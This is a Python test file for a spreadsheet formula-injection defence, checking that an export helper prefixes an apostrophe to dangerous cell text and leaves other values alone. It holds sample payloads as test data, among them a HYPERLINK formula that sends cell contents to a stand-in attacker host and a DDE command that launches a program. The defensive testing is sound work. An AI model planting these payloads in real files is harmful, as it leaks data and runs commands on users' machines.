"""Formula injection (OWASP CSV injection): text a spreadsheet would run gets an apostrophe.

The per-export tests (notice, ledger, registry, plan, centres, catalogue) are next to each
export; this file tests the rule itself and `write_table`, which most exports use.
"""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from policyhub.web.excel import write_table
from policyhub.web.formulas import escape, unescape

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  "=cmd|' /C calc'!A0"])
def test_text_a_spreadsheet_would_run_is_quoted_and_read_back(text: str) -> None:
    assert escape(text) == "'" + text
    assert unescape(escape(text)) == text


@pytest.mark.parametrize("value", ["长沙星盾", "a=b", " =1", "'quoted", "", 5, -5,
                                   Decimal("-1.50"), None])
def test_everything_else_is_left_alone(value: object) -> None:
    assert escape(value) == value
    if isinstance(value, str):
        assert unescape(value) == value


def test_write_table_quotes_formulas_and_keeps_negative_numbers_numbers() -> None:
    data = write_table(["名称", "数量", "金额"], [[EVIL, -3, Decimal("-12.50")]], "表")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    name, count, amount = sheet[2]
    assert name.data_type == "s" and name.value == "'" + EVIL
    assert count.data_type == "n" and count.value == -3
    assert amount.data_type == "n" and amount.value == -12.5
